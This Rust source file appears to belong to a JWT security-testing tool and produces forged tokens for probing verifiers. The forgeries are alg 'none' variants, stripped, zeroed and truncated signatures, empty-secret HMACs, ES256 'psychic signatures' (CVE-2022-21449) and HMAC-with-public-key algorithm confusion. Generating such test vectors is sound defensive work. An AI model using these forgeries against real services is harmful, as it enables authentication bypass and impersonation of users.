//! Classes on the signature: `alg-none` (every spelling, signature kept or dropped),
//! `signature` (stripped, truncated, zeroed, flipped), `psychic` (ES256 r/s of 0 or n)
//! and `alg-confusion` (HMAC keyed with every text of the public key).

use serde_json::json;

use jwtc_vectors::forge::P256_ORDER;
use jwtc_vectors::mint::hmac;
use jwtc_vectors::model::Severity::{Critical, High};
use jwtc_verifier::b64;

use super::{enc, Ctx};
use crate::attack::Attack;

/// alg none, None, NONE, nOnE; unsigned and with the original signature.
pub fn alg_none(c: &Ctx<'_>) -> Vec<Attack> {
    let t = c.token;
    let mut out = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let h = enc(&t.header_with(json!({ "alg": alg })));
        let name = if alg == "none" {
            "none".to_string()
        } else {
            format!("none-{}", spelling(alg))
        };
        out.push(
            Attack::new(
                "alg-none",
                format!("{name}-unsigned"),
                "core.alg",
                Critical,
                format!("alg {alg:?}, the signature segment empty"),
                format!("{h}.{}.", t.p64),
            )
            .refs(&["CVE-2015-9235", "CVE-2022-23540", "RFC 8725 §3.1"]),
        );
        out.push(
            Attack::new(
                "alg-none",
                format!("{name}-with-signature"),
                "core.alg",
                Critical,
                format!("alg {alg:?}, the original signature kept"),
                format!("{h}.{}.{}", t.p64, t.s64),
            )
            .refs(&["CVE-2015-9235", "RFC 8725 §3.1"]),
        );
    }
    let h = enc(&t.header_with(json!({ "alg": null })));
    out.push(Attack::new(
        "alg-none",
        "alg-removed",
        "core.alg",
        High,
        "the header without alg, the original signature kept",
        format!("{h}.{}.{}", t.p64, t.s64),
    ));
    out
}

fn spelling(alg: &str) -> &'static str {
    match alg {
        "None" => "capitalised",
        "NONE" => "upper",
        _ => "mixed",
    }
}

/// The signature stripped, cut, zeroed, flipped.
pub fn signature(c: &Ctx<'_>) -> Vec<Attack> {
    let t = c.token;
    let rule = c.sig_rule();
    let hp = format!("{}.{}", t.h64, t.p64);
    let mut flipped = t.sig.clone();
    if let Some(last) = flipped.last_mut() {
        *last ^= 1;
    }
    let half = &t.sig[..t.sig.len() / 2];
    // jwt_tool -X b: an HMAC keyed with the empty secret (HS256 for a non-HS token).
    let hs = if t.family() == "HS" {
        t.alg.as_str()
    } else {
        "HS256"
    };
    let h = enc(&t.header_with(json!({ "alg": hs })));
    let blank = hmac(hs, b"", format!("{h}.{}", t.p64).as_bytes());
    vec![
        Attack::new(
            "signature",
            "blank-secret",
            rule,
            Critical,
            format!("{hs} keyed with the empty secret"),
            format!("{h}.{}.{}", t.p64, b64::encode(blank)),
        ),
        Attack::new(
            "signature",
            "stripped",
            rule,
            Critical,
            "the signature segment empty, alg kept",
            format!("{hp}."),
        ),
        Attack::new(
            "signature",
            "two-segments",
            rule,
            Critical,
            "no signature segment at all (header.payload)",
            hp.clone(),
        )
        .refs(&["CVE-2015-9235"]),
        Attack::new(
            "signature",
            "truncated-half",
            rule,
            Critical,
            format!(
                "the first {} of the signature's {} bytes",
                half.len(),
                t.sig.len()
            ),
            format!("{hp}.{}", b64::encode(half)),
        ),
        Attack::new(
            "signature",
            "zeroed",
            rule,
            Critical,
            format!("{} zero bytes in place of the signature", t.sig.len()),
            format!("{hp}.{}", b64::encode(vec![0u8; t.sig.len()])),
        ),
        Attack::new(
            "signature",
            "last-bit-flipped",
            rule,
            Critical,
            "the signature's last bit flipped",
            format!("{hp}.{}", b64::encode(flipped)),
        ),
    ]
}

/// ES256 signatures with r or s 0 or n (CVE-2022-21449).
pub fn psychic(c: &Ctx<'_>) -> Vec<Attack> {
    let t = c.token;
    if t.alg != "ES256" || t.sig.len() != 64 {
        return Vec::new();
    }
    let (r, s) = t.sig.split_at(32);
    let zero = [0u8; 32];
    let n = P256_ORDER;
    let hp = format!("{}.{}", t.h64, t.p64);
    [
        ("r-s-zero", "r = s = 0", [&zero[..], &zero[..]].concat()),
        ("r-zero", "r = 0, s kept", [&zero[..], s].concat()),
        ("s-zero", "r kept, s = 0", [r, &zero[..]].concat()),
        ("r-n", "r = n (the group order), s kept", [&n[..], s].concat()),
        ("s-n", "r kept, s = n", [r, &n[..]].concat()),
        ("r-s-n", "r = s = n", [&n[..], &n[..]].concat()),
    ]
    .into_iter()
    .map(|(name, what, sig)| {
        Attack::new("psychic", name, "core.sig-es256", Critical,
            format!("{what}: the psychic signature, valid for any message under a verifier that skips the range check"),
            format!("{hp}.{}", b64::encode(sig)))
        .refs(&["CVE-2022-21449"])
    })
    .collect()
}

/// HS256 (and HS384, HS512 over the PEM) keyed with each text of the public key.
pub fn confusion(c: &Ctx<'_>) -> Vec<Attack> {
    let (Some(key), t) = (c.key, c.token) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for text in key.texts() {
        for alg in ["HS256", "HS384", "HS512"] {
            if alg != "HS256" && text.name != "spki-pem" {
                continue;
            }
            let h = enc(&t.header_with(json!({ "alg": alg })));
            let mac = hmac(alg, &text.bytes, format!("{h}.{}", t.p64).as_bytes());
            let name = if alg == "HS256" {
                text.name.to_string()
            } else {
                format!("{}-{}", text.name, alg.to_lowercase())
            };
            out.push(
                Attack::new("alg-confusion", name, "core.alg-confusion", Critical,
                    format!("{alg} keyed with {}: a verifier that takes the public key for an HMAC secret accepts it", text.what),
                    format!("{h}.{}.{}", t.p64, b64::encode(mac)))
                .refs(text.refs),
            );
        }
    }
    out
}
